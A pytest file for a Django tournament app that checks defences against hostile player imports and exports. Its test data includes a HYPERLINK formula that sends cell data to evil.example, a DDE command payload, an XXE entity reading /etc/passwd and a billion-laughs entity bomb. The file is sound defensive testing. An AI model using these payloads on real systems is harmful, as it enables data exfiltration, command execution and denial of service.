"""Hostile files (issue 11, section 4): formula injection in exports, workbooks that unpack to millions of
cells, malformed workbooks, duplicated columns. Each test sends the attack as it was sent."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tests.factories import make_player, make_registration
from tournament.models import Player, Registration

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C3,"Win")'
SHEET = "xl/worksheets/sheet1.xml"
SHEET_OPEN = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
SHEET_CLOSE = b"</sheetData></worksheet>"


def workbook_with_sheet(write_sheet) -> bytes:
    """A real workbook (openpyxl) whose first sheet's XML is written by `write_sheet(file)`."""
    book = openpyxl.Workbook()
    book.active.append(["name", "club"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for item in src.infolist():
            if item.filename == SHEET:
                with dst.open(SHEET, "w", force_zip64=True) as sheet:
                    write_sheet(sheet)
            else:
                dst.writestr(item, src.read(item.filename))
    return out.getvalue()


def upload(organizer_client, event, body: bytes, name: str = "players.xlsx"):
    url = reverse("tournament:player_import", args=[event.slug])
    return organizer_client.post(url, {"file": SimpleUploadedFile(name, body)})


# Formula injection -------------------------------------------------------------------------------------

def test_standings_csv_defuses_a_formula_name(client, event):
    make_registration(event, make_player(HYPERLINK))
    response = client.get(reverse("tournament:standings_export", args=[event.slug, "csv"]))
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ',"=HYPERLINK' not in text and "\n=HYPERLINK" not in text


def test_standings_xlsx_writes_a_formula_name_as_text(client, event):
    make_registration(event, make_player(HYPERLINK))
    response = client.get(reverse("tournament:standings_export", args=[event.slug, "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith("=HYPERLINK")]
    assert cells and all(cell.data_type == "s" for cell in cells)  # a string cell, not a formula


def test_a_control_character_in_a_name_does_not_break_standings_xlsx(client, event):
    make_registration(event, make_player("Ana\x01Bea"))
    response = client.get(reverse("tournament:standings_export", args=[event.slug, "xlsx"]))
    assert response.status_code == 200
    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row]
    assert "AnaBea" in values


@pytest.mark.parametrize("name", ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\tTab", "\rReturn"])
def test_players_export_defuses_every_formula_start(organizer_client, event, name):
    make_registration(event, make_player(name.strip() if name[0] in "\t\r" else name))
    make_registration(event, make_player("Zoë"))
    Player.objects.filter(name=name.strip()).update(name=name)  # as an older row could hold it
    body = organizer_client.get(reverse("tournament:player_export", args=[event.slug, "csv"])).content
    first_cells = [line.split(",")[0].strip('"') for line in body.decode("utf-8-sig").split("\n")[1:] if line]
    assert all(cell[0] not in "=+-@\t\r" for cell in first_cells), first_cells


def test_an_exported_csv_imports_back_unchanged(organizer_client, event, db):
    from tests.factories import make_event

    make_registration(event, make_player("-Ana Menos"))
    body = organizer_client.get(reverse("tournament:player_export", args=[event.slug, "csv"])).content
    other = make_event(slug="other")
    from tournament.models import EventRole

    EventRole.objects.create(event=other, user=event.roles.get(role="organizer").user, role="organizer")
    assert upload(organizer_client, other, body, "players.csv").status_code == 302
    assert other.registrations.get().player.name == "-Ana Menos"


# Workbook amplification and malformed workbooks ---------------------------------------------------------

def test_a_workbook_of_100000_by_100_cells_is_refused_with_a_message(organizer_client, event):
    row = b"<row>" + b"<c><v>1</v></c>" * 100 + b"</row>"

    def big(sheet):
        sheet.write(SHEET_OPEN)
        for _ in range(100):
            sheet.write(row * 1000)
        sheet.write(SHEET_CLOSE)

    body = workbook_with_sheet(big)
    assert len(body) < 2 * 1024 * 1024  # about 1 MB on the wire
    response = upload(organizer_client, event, body)
    assert response.status_code == 400
    assert "too large once unpacked" in response.text and "Nothing was imported" in response.text
    assert Registration.objects.count() == 0


def test_reading_stops_at_the_row_limit(organizer_client, event):
    """2,100 rows, then a broken rest: refused for its rows, so the reader never went past the limit."""

    def rows_then_garbage(sheet):
        sheet.write(SHEET_OPEN + b'<row><c t="inlineStr"><is><t>name</t></is></c></row>')
        sheet.write(b'<row><c t="inlineStr"><is><t>Ana</t></is></c></row>' * 2100)
        sheet.write(b"<row><c><v>1</v></c></ro")  # truncated

    response = upload(organizer_client, event, workbook_with_sheet(rows_then_garbage))
    assert response.status_code == 400 and "Too many rows: the limit is 2000." in response.text
    assert Registration.objects.count() == 0


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10)
                             for i in range(1, 10))
                  + b"]>" + SHEET_OPEN + b'<row><c t="inlineStr"><is><t>&lol9;</t></is></c></row>' + SHEET_CLOSE)
XXE = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + SHEET_OPEN
       + b'<row><c t="inlineStr"><is><t>&xxe;</t></is></c></row>' + SHEET_CLOSE)


@pytest.mark.parametrize("sheet_xml", [BILLION_LAUGHS, XXE, SHEET_OPEN + b"<row><c><v>1</v>"],
                         ids=["billion-laughs", "xxe", "truncated-xml"])
def test_malformed_workbooks_are_not_readable_workbooks(organizer_client, event, sheet_xml):
    response = upload(organizer_client, event, workbook_with_sheet(lambda sheet: sheet.write(sheet_xml)))
    assert response.status_code == 400 and "not a readable XLSX workbook" in response.text
    assert "root:" not in response.text
    assert Registration.objects.count() == 0


def test_a_truncated_workbook_is_not_a_readable_workbook(organizer_client, event):
    body = workbook_with_sheet(lambda sheet: sheet.write(SHEET_OPEN + SHEET_CLOSE))
    response = upload(organizer_client, event, body[: len(body) // 2])
    assert response.status_code == 400 and "not a readable XLSX workbook" in response.text


# Columns ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["players.csv", "players.xlsx"])
def test_duplicated_columns_are_an_error_naming_the_column(organizer_client, event, name):
    if name.endswith(".csv"):
        body = b"name,Name,club\nAna,Bea,Club\n"
    else:
        book = openpyxl.Workbook()
        book.active.append(["name", "Name", "club"])
        book.active.append(["Ana", "Bea", "Club"])
        buffer = io.BytesIO()
        book.save(buffer)
        body = buffer.getvalue()
    response = upload(organizer_client, event, body, name)
    assert response.status_code == 400 and "The column “Name” appears twice." in response.text
    assert Registration.objects.count() == 0


def test_a_csv_with_too_many_columns_is_refused(organizer_client, event):
    header = ",".join(["name", "club"] + [f"x{i}" for i in range(98)])
    body = (header + "\n" + "\n".join(",".join(["Ana", "Club"] + ["1"] * 98) for _ in range(3))).encode()
    response = upload(organizer_client, event, body, "players.csv")
    assert response.status_code == 400 and "Too many columns: the limit is 30." in response.text
    assert Registration.objects.count() == 0
